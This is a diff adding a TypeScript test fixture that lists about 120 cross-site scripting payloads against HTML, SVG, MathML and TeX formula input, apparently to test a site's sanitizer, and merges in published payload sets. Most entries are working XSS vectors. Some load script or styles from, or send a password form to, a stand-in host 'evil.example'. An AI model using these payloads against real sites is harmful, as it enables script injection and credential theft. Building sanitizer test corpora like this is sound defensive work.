@@ -1,0 +1,153 @@
+import { sharedFixture } from './shared-fixtures'
+
+type Attack = { id: string; payload: string }
+
+const numbered = (name: string, payloads: string[]): Attack[] =>
+  payloads.map((payload, index) => ({ id: `${name}-${index + 1}`, payload }))
+
+/**
+ * Attack vectors for formulas, written for this site: MathML elements in which the parser returns to HTML, TeX commands
+ * for URLs, handlers and styles, and text that looks like the end of an element.
+ */
+export const FORMULA_ATTACKS = numbered('formula', [
+  '<math data-tex="x"><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '<form><math data-tex="x"><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></mtext></math>',
+  '<math data-tex="x"><annotation-xml encoding="text/html"><style><img src=x onerror="alert(1)"></style></annotation-xml></math>',
+  '<math data-tex="x"><annotation-xml encoding="application/xhtml+xml"><script>alert(1)</script></annotation-xml></math>',
+  '<math data-tex="x"><semantics><annotation encoding="text/html"><img src=x onerror=alert(1)></annotation></semantics></math>',
+  '<math data-tex="x"><mi><malignmark><svg><style><img src=x onerror=alert(1)></style></svg></malignmark></mi></math>',
+  '<math data-tex="x"><mi//xlink:href="data:x,<script>alert(1)</script>">',
+  '<math data-tex="x" href="javascript:alert(1)" onclick="alert(1)"><maction actiontype="statusline#http://x" xlink:href="javascript:alert(1)">CLICK</maction></math>',
+  '<math data-tex="x"><mtext><option><mglyph><!-- --><option></mglyph><img src=x onerror=alert(1)></mtext></math>',
+  '<math data-tex="x"><title><img src=x onerror=alert(1)></title><desc><a href="javascript:alert(1)">a</a></desc></math>',
+  '<svg><foreignobject><math data-tex="x"><mi><a xlink:href="javascript:alert(1)">y</a></mi></math></foreignobject></svg>',
+  '<math data-tex="\\text{&lt;/mtext&gt;&lt;/math&gt;&lt;img src=x onerror=alert(1)&gt;}"></math>',
+  '<math data-tex="\\href{javascript:alert(1)}{x}"></math>',
+  '<math data-tex="\\url{javascript:alert(1)}"></math>',
+  '<math data-tex="\\includegraphics{https://evil.example/x.png}"></math>',
+  '<math data-tex="\\class{a&quot; onclick=&quot;alert(1)}{x}\\id{a}{x}\\style{position:fixed}{x}\\data{a=b}{x}"></math>',
+  '<math data-tex="\\color{red;background:url(//evil.example)}x"></math>',
+  '<math data-tex="\\colorbox{url(//evil.example)}{x}\\textcolor{expression(alert(1))}{x}"></math>',
+  '<math data-tex="\\def\\a{\\a\\a}\\a"></math>',
+  '<math data-tex="x--&gt;&lt;/style&gt;&lt;script&gt;alert(1)&lt;/script&gt;]]&gt;"></math>',
+  '<math data-tex="x" style="background:url(//evil.example)" class="x" display="block" display="inline"><mi style="position:fixed" id="a" name="b">x</mi></math>',
+  '<p><math data-tex="x"><p><img src=x onerror=alert(1)></p></math>',
+  '<math data-tex><mtext><img src=x onerror=alert(1)></mtext></math>',
+  '<mtext><math data-tex="x"></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph>',
+])
+
+/** Attacks on HTML of each kind there is, written for this site. */
+const HTML_ATTACKS = numbered('html', [
+  // Scripts, also where a parser reads something else first.
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//evil.example/a.js></SCRIPT>',
+  '<p>a<script>alert(1)//',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><script xlink:href="data:,alert(1)"></script></svg>',
+  '<script type="module">import("//evil.example")</script>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  '<title><img src=x onerror=alert(1)></title>',
+  '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
+  '<xmp><img src=x onerror=alert(1)></xmp>',
+  '<noembed><img src=x onerror=alert(1)></noembed>',
+  '<plaintext><img src=x onerror=alert(1)>',
+  // Handlers.
+  '<img src=x onerror=alert(1)>',
+  '<img/src="x"/onerror=alert(1)>',
+  '<img src=x\tonerror\n=\nalert(1)>',
+  '<p onclick="alert(1)" ONMOUSEOVER="alert(1)">a</p>',
+  '<a href="/a" onfocus=alert(1) autofocus tabindex=1>a</a>',
+  '<details open ontoggle=alert(1)><summary>a</summary></details>',
+  '<body onload=alert(1)>',
+  '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
+  '<video poster=x onloadstart=alert(1)><source onerror=alert(1)></video>',
+  '<audio src=x onerror=alert(1)>',
+  '<input type=checkbox onfocus=alert(1) autofocus>',
+  '<table background="javascript:alert(1)"><td onpointerover=alert(1)>a</td></table>',
+  '<marquee onstart=alert(1)>a</marquee>',
+  // Addresses that act, however they are written.
+  '<a href="javascript:alert(1)">a</a>',
+  '<a href="JaVaScRiPt:alert(1)">a</a>',
+  '<a href="java\tscript:alert(1)">a</a>',
+  '<a href="java&Tab;scr&NewLine;ipt:alert(1)">a</a>',
+  '<a href="&#1;javascript:alert(1)">a</a>',
+  '<a href=" &#x6A;avascript&colon;alert(1)">a</a>',
+  '<a href="vbscript:msgbox(1)">a</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">a</a>',
+  '<a href="blob:https://colophon.test/1">a</a>',
+  '<a href="view-source:javascript:alert(1)">a</a>',
+  '<img src="javascript:alert(1)">',
+  '<img src="data:image/svg+xml,<svg onload=alert(1) xmlns=\'http://www.w3.org/2000/svg\'/>">',
+  '<video src="javascript:alert(1)" poster="javascript:alert(1)"></video>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<img src=x onerror=parent.alert(1)>"></iframe>',
+  '<iframe src="https://www.youtube-nocookie.com.evil.example/embed/a"></iframe>',
+  '<iframe src="https://www.youtube-nocookie.com@evil.example/embed/a"></iframe>',
+  '<svg><a xlink:href="javascript:alert(1)"><text y=20>a</text></a></svg>',
+  '<svg><use href="data:image/svg+xml,<svg id=a xmlns=\'http://www.w3.org/2000/svg\' onload=alert(1)/>#a"/></svg>',
+  '<svg><animate attributeName=href values="javascript:alert(1)"/><a id=a><text>a</text></a></svg>',
+  '<math href="javascript:alert(1)">a</math>',
+  // What leads elsewhere, sends, loads or looks like the site.
+  '<form action="javascript:alert(1)"><button>a</button></form>',
+  '<form action="//evil.example"><input name=password type=password></form>',
+  '<button formaction="javascript:alert(1)">a</button>',
+  '<input type=image src=x formaction="javascript:alert(1)">',
+  '<isindex action="javascript:alert(1)">',
+  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
+  '<base href="//evil.example/"><a href="a">a</a>',
+  '<link rel=stylesheet href="//evil.example/a.css">',
+  '<link rel=import href="//evil.example/a.html">',
+  '<object data="javascript:alert(1)"></object>',
+  '<embed src="javascript:alert(1)">',
+  '<applet code=a></applet>',
+  '<portal src="//evil.example"></portal>',
+  '<dialog open><form method=dialog><button>a</button></form></dialog>',
+  '<a href="/a" ping="//evil.example" target="_top" download>a</a>',
+  '<p id="location" name="cookie" is="x-a" slot="a" part="a" popover>a</p>',
+  '<img name=body id=getElementById src=x>',
+  // Styles.
+  '<style>@import "//evil.example";*{background:url(javascript:alert(1))}</style>',
+  '<p style="background:url(//evil.example)">a</p>',
+  '<p style="width:expression(alert(1))">a</p>',
+  '<p style="behavior:url(#default#time2)">a</p>',
+  '<p style="-moz-binding:url(//evil.example)">a</p>',
+  '<p style="position:fixed;inset:0">a</p>',
+  '<p style="color:r\\65 d;background:u\\72l(//evil.example)">a</p>',
+  '<p style="color:/*</p><script>*/alert(1)">a</p>',
+  '<p style="--a:url(//evil.example);color:var(--a)">a</p>',
+  // Trees that a second parser reads as others.
+  '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
+  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>',
+  '<svg><foreignObject><p></foreignObject><style><img src=x onerror=alert(1)></style></svg>',
+  '<svg><desc><noscript><style></noscript><img src=x onerror=alert(1)></style></desc></svg>',
+  '<select><template><img src=x onerror=alert(1)></template></select>',
+  '<template><img src=x onerror=alert(1)></template>',
+  '<table><caption><svg><title><style></title></svg><img src=x onerror=alert(1)></style>',
+  '<a><a><table><a><img src=x onerror=alert(1)>',
+  '<p><b><i></p><p></b><img src=x onerror=alert(1)></i>',
+  '<frameset><frame src="javascript:alert(1)"></frameset>',
+  // Comments and what is none.
+  '<!--><img src=x onerror=alert(1)>-->',
+  '<!--!><img src=x onerror=alert(1)>-->',
+  '<!-- --!><img src=x onerror=alert(1)>',
+  '<![CDATA[<img src=x onerror=alert(1)>]]>',
+  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
+  '<!doctype html><img src=x onerror=alert(1)>',
+  '<//script><img src=x onerror=alert(1)>',
+  '</p title="<img src=x onerror=alert(1)>">',
+  '<p title="`><img src=x onerror=alert(1)>">a</p>',
+  "<p title='\"><img src=x onerror=alert(1)>'>a</p>",
+  '<img alt="x` `onerror=alert(1) src=x">',
+  '<\u0000script>alert(1)</script><img src=x on\u0000error=alert(1)>',
+  '<custom-element onclick=alert(1)><slot onslotchange=alert(1)></slot></custom-element>',
+])
+
+/** Those, and 567 that others have published, where they are beside this clone: they have licences of their own. */
+export const ATTACKS: Attack[] = [
+  ...HTML_ATTACKS,
+  ...['html5sec', 'dompurify-expect', 'owasp-filter-evasion'].flatMap((name) =>
+    sharedFixture<Attack>(`xss/${name}.json`),
+  ),
+]
